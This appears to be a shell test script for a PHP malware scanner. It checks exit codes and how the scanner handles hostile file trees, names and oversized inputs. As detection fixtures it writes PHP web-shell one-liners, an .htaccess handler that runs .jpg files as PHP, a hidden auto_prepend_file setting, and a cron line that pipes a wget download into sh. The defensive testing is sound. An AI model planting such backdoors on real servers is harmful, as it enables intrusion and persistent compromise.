# hostile.sh - a home that fights back; sourced by run. Whatever lies in it: the scan ends, says what it left out, and the one
# bad file in it is found.
home=$tmp/home
mkdir -p "$home/sub" "$tmp/outside"
echo '<?php eval($_POST["a"]);' >"$home/sub/bad.php"
echo '<?php eval($_POST["a"]);' >"$tmp/outside/bad.php"
cp -R test/scan/cases/clean_numbers.php "$home/fine.php"

scan() { "$SPAMTRAIL" scan "$@"; }
has() { echo "$out" | grep -q -- "$1"; }

out=$(scan --plain "$home"); rc=$?
ok $((rc != 1)) "a finding is exit code 1"
out=$(scan --plain "$home/fine.php"); rc=$?
ok $rc "nothing found is exit code 0"
scan "$home/none" >/dev/null 2>&1; ok $(($? != 66)) "a path that is not there is exit code 66"
scan >/dev/null 2>&1; ok $(($? != 64)) "no path is exit code 64"

mkfifo "$home/pipe" "$home/pipe.php"
ln -s ../outside "$home/out"
ln -s "$tmp/outside/bad.php" "$home/link"
ln -s . "$home/self"
ln "$home/fine.php" "$home/hard.php"
out=$(timeout 20 "$SPAMTRAIL" scan --plain "$home"); rc=$?
ok $((rc != 1)) "FIFOs and links: exit code 1, as they hold nothing to read"
has "^skipped$tab.*/pipe.php${tab}a FIFO"; ok $? "a FIFO is told, not opened"
has "^skipped$tab.*/out${tab}a link"; ok $? "a link out of the home is told, not followed"
has outside/bad.php; ok $((!$?)) "nothing outside of the home is read"

esc=$(printf 'e\033[31m\nx.php')
cp "$home/sub/bad.php" "$home/$esc"
cp "$home/sub/bad.php" "$home/$(printf 'b\377\376.php')"
cp "$home/sub/bad.php" "$home/-rf.php"
out=$(scan --plain "$home")
[ "$(echo "$out" | grep -c '^finding')" = 4 ]; ok $? "names with newline, escape, bytes that are no UTF-8, a leading dash: one line each"
echo "$out" | LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177\377]')"; ok $((!$?)) "no control byte reaches the terminal"
scan --json "$home" >"$tmp/json"
grep -q '"path_b64"' "$tmp/json"; ok $? "a path that is no UTF-8 comes as path_b64, too"
if command -v python3 >/dev/null; then
	python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["schema"]=="spamtrail.scan/1" and len(d["findings"])==4' "$tmp/json"
	ok $? "the JSON parses"
fi
rm -f "$home"/e* "$home"/b* "$home/-rf.php"

truncate -s 8T "$home/sparse.php" 2>/dev/null || truncate -s 1G "$home/sparse.php"
out=$(timeout 20 "$SPAMTRAIL" scan --plain "$home"); rc=$?
ok $((rc != 3)) "a sparse giant ends in time and makes it incomplete"
has "^skipped$tab.*/sparse.php${tab}larger than the limit"; ok $? "and is told"
rm "$home/sparse.php"

# archives: counted, also where nothing is read again
mkdir "$tmp/packed" "$tmp/packed/b"; echo x >"$tmp/packed/b/site.tar.gz"; echo x >"$tmp/packed/old.ZIP"; echo x >"$tmp/packed/zip"
for again in 'looked into: b/site.tar.gz and so on' 'looked into: b/site.tar.gz and so on'; do
	out=$(scan --plain "$tmp/packed"); rc=$?
	[ $rc = 0 ] && has "^skipped$tab$tmp/packed${tab}2 archives were not $again\$"; ok $? "archives are said to be left out, once"
done
rm "$tmp/packed/b/site.tar.gz"; out=$(scan --plain "$tmp/packed"); has "${tab}1 archive was not looked into: old.ZIP\$"; ok $? "one is one"
rm "$tmp/packed/old.ZIP"; out=$(scan --plain "$tmp/packed"); has ^skipped; ok $((!$?)) "none is none"

# what the operator names himself: not looked into is no answer
printf 'Rar!\032\007' >"$tmp/packed/a.rar"; ln -s a.rar "$tmp/packed/l.rar"; ln -s zip "$tmp/packed/l.php"
out=$(scan --json "$tmp/packed/a.rar"); rc=$?
[ $rc = 3 ] && has '"complete":false' && has '"bytes":0,' && has 'not looked into\|no archive of a kind'; ok $? "a named archive is not looked into, and that is no clean answer"
for again in new known; do
	out=$(scan --plain --state "$tmp/packed.state" "$tmp/packed/a.rar"); rc=$?
	[ $rc = 3 ] && has '^total.*	no	'; ok $? "a named archive that is $again"
done
out=$(scan --plain "$tmp/packed/l.php"); rc=$?
[ $rc = 3 ] && has 'is a link by now, not followed'; ok $? "nor is a named link"
out=$(scan --plain "$tmp/packed"); rc=$?
[ $rc = 0 ] && has '1 archive was not looked into: a.rar$'; ok $? "and those that are met on the way leave the exit code as it is"

# two nests of 600, one hung into the other
nest() { (cd "$1" && for i in $(seq 1 600); do mkdir dddd && cd dddd || exit 1; done; [ -z "${2:-}" ] || mv "$2" .; cp "$home/sub/bad.php" .); }
mkdir "$tmp/lower" && nest "$tmp/lower" && nest "$home" "$tmp/lower"
out=$(timeout 60 "$SPAMTRAIL" scan --plain "$home"); rc=$?
ok $((rc != 3)) "folders in one another, deeper than a path is long: it ends, incomplete"
has "too long to be opened"; ok $? "and what is too deep is told"
has "sub/bad.php"; ok $? "and the rest is read"
rm -rf "$home/dddd"

mkdir "$home/many"
(cd "$home/many" && seq -f "f%.0f.txt" 1 5000 | xargs touch)
out=$(timeout 60 "$SPAMTRAIL" scan --plain "$home")
[ "$(echo "$out" | sed -n "s/^total$tab\([0-9]*\).*/\1/p")" -ge 5003 ]; ok $? "5,000 names in one folder are all read"
rm -rf "$home/many"

# twelve thousand folders with long names in one: what waits is bounded, whatever the names are
if command -v python3 >/dev/null; then
	python3 - "$home/wide" "$SPAMTRAIL" <<-'PY'
	import os, resource, subprocess, sys
	for i in range(12000):
	    os.makedirs("%s/%s-%d" % (sys.argv[1], "long" * 55, i))
	code = subprocess.run([sys.argv[2], "scan", "--plain", sys.argv[1]], stdout=subprocess.DEVNULL).returncode
	peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
	print("# 12,000 folders in one: %d MB" % peak)
	sys.exit(code or peak > 48)
	PY
	ok $? "12,000 folders with long names in one take less than 48 MB"
	rm -rf "$home/wide"
	python3 - "$home" "$SPAMTRAIL" <<-'PY'
	import fcntl, os, signal, socket, subprocess, sys
	signal.signal(signal.SIGIO, signal.SIG_IGN)
	s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1] + "/sock.php")
	open(sys.argv[1] + "/leased.php", "w").write("<?php echo 1;")
	fd = os.open(sys.argv[1] + "/leased.php", os.O_RDWR); fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
	out = subprocess.run([sys.argv[2], "scan", "--plain", sys.argv[1]], stdout=subprocess.PIPE, timeout=20).stdout.decode("latin-1")
	sys.exit(0 if "sock.php\ta socket" in out and "leased.php\theld back by a lease" in out else 1)
	PY
	ok $? "a socket is told, and a file under a lease is told and not waited for"
	rm -f "$home/sock.php" "$home/leased.php"
fi
if [ "$(id -u)" = 0 ] && mknod "$home/dev.php" c 1 5 2>/dev/null; then
	out=$(scan --plain "$home"); has "dev.php${tab}a device"; ok $? "a device is told, not opened"
	rm "$home/dev.php"
fi

# a bomb: text in a thousand layers, and one that unpacks a thousand to one
{
	printf '<?php return; $x = "%s"; ' "$(head -c 30000 /dev/zero | tr '\0' a)"
	i=0; while [ $i -lt 400 ]; do printf 'eval(str_repeat($x, 500) . base64_decode($x));'; i=$((i + 1)); done
} >"$home/bomb.php"
{
	printf '<?php return; $f = function($n) use (&$f) { return $f($n + 1) . $f($n + 2); }; eval($f($_GET["x"]));'
	printf 'while (true) { $a .= str_repeat("x", 1000); } for (;;) { $b[] = $a; $c = $c . $c . "yy"; }'
} >"$home/loop.php"
{ printf '<?php return; eval('; head -c 200000 /dev/zero | tr '\0' '('; printf '$_POST[1]);'; } >"$home/deep.php"
{ printf '<?php return; '; i=0; while [ $i -lt 3000 ]; do printf 'if ($a) { foreach ($b as $c) { '; i=$((i + 1)); done; printf 'eval($_POST[1]);'; } >"$home/nest.php"
for f in bomb loop deep nest; do
	began=$(date +%s)
	out=$(timeout 10 "$SPAMTRAIL" scan --plain "$home/$f.php"); rc=$?
	[ $rc -le 3 ] && [ $(($(date +%s) - began)) -le 3 ]; ok $? "$f.php ends within its budget"
done
rm -f "$home"/bomb.php "$home"/loop.php "$home"/deep.php "$home"/nest.php

# of a copy: the tree may change while it is tested
cp -r test/scan/cases "$tmp/cases"
for n in 1 7; do
	rm -rf "$tmp/state"
	SPAMTRAIL_TEST_WORKERS=$n "$SPAMTRAIL" scan --plain "$tmp/cases" >"$tmp/said.$n" 2>&1; echo "exit $?" >>"$tmp/said.$n"
done
diff "$tmp/said.1" "$tmp/said.7" >"$tmp/differs"; ok $? "one worker and seven say the same"
sed 's/^/# /' "$tmp/differs"

echo 'AddHandler application/x-httpd-php .jpg' >"$home/.htaccess"
echo 'auto_prepend_file = "/tmp/.x.jpg"' >"$home/.user.ini"
printf '# m h\n*/5 * * * * wget -qO- http://203.0.113.9/x | sh\n' >"$home/crontab"
out=$(scan --plain "$home")
for r in config.handler config.prepend.hidden config.cron.fetch; do has "$tab$r$tab"; ok $? "settings: $r"; done
printf 'Options -Indexes -ExecCGI\nAddHandler cgi-script .php .php5 .pl .htm .txt\nRewriteEngine On\nRewriteRule ^x$ index.php [L]\nAddType image/webp .webp\n' >"$home/.htaccess"
printf 'memory_limit = 256M\n' >"$home/.user.ini"
rm "$home/crontab" "$home/sub/bad.php"
printf 'P\0\1\377<?\300\001 `a$b\002` <?=\377`$c`' >"$home/picture.png"
out=$(scan --plain "$home"); rc=$?
ok $rc "ordinary settings, and a picture that holds a tag by chance, are no finding"

# one file alone, so that its two times are all that decides
age=$tmp/age; mkdir "$age"; echo '<?php eval($_POST["a"]);' >"$age/old.php"
touch -d '10 days ago' "$age/old.php"
out=$(scan --plain --since '1 hour ago' "$age")
has "^finding.*/old.php" && has "^total${tab}1$tab"; ok $? "--since: a file that was given an old mtime is read, as its owner cannot set ctime"
out=$(scan --plain --since 2d "$age"); has "^finding.*/old.php"; ok $? "--since 2d is two days ago"
touch -d '10 days' "$age/old.php"
out=$(scan --plain --since +3d "$age"); has "^finding.*/old.php"; ok $? "one with a late mtime, too, whatever its ctime"
touch -d '10 days ago' "$age/old.php"
out=$(scan --plain --since tomorrow "$age"); rc=$?
[ $rc = 0 ] && has "^total${tab}0$tab"; ok $? "one whose two times lie before is left out"

if [ "$(id -u)" = 0 ]; then
	mkdir "$home/closed"; cp test/scan/cases/code_direct.php "$home/closed/"; chown -R 12345:12345 "$home"; chmod 755 "$tmp"
	chown 0:0 "$home/closed"; chmod 700 "$home/closed"
	out=$(scan --plain "$home"); rc=$?
	ok $((rc != 3)) "as root: what the folder's owner may not read is not read"
	has "^skipped$tab.*/closed${tab}may not be read by its account (uid 12345)"; ok $? "and told"
	# who calls without rights is no account: it is he who may not
	mkdir "$tmp/own" "$tmp/own/shut" "$tmp/mine"; chmod 700 "$tmp/own/shut"; echo '<?php echo 1;' >"$tmp/own/a.php"
	cp "$SPAMTRAIL" "${SPAMTRAIL%/*}"/spamtrail-[a-z]* "$tmp/mine/" 2>/dev/null; chmod -R a+rX "$tmp/mine"
	out=$(setpriv --reuid=1007 --regid=1007 --clear-groups --no-new-privs "$tmp/mine/spamtrail" scan --plain "$tmp/own" 2>/dev/null); rc=$?
	[ $rc = 3 ] && has "^skipped$tab.*/shut${tab}may not be read by you (uid 1007): root sees more"; ok $? "what the caller may not read is not laid to an account"
	out=$("$SPAMTRAIL" scan "$tmp/own/a.php" | tail -n 1)
	has '^1 file, '; ok $? "one file is one"
else
	tests=$((tests + 1)); echo "ok $tests - the folder's owner # SKIP needs root"
fi
mkdir -p "$tmp/image/etc" "$tmp/image/home/x"; cp test/scan/cases/code_direct.php "$tmp/image/home/x/"
out=$("$SPAMTRAIL" scan --root "$tmp/image" /home/x | tr '\n' ' ' | tr -s ' ')
has "ROOT every path here is beneath $tmp/image " && has "NEXT spamtrail scan --explain FILE --root $tmp/image "; ok $? "paths of an image are said to be its, and the next command is"
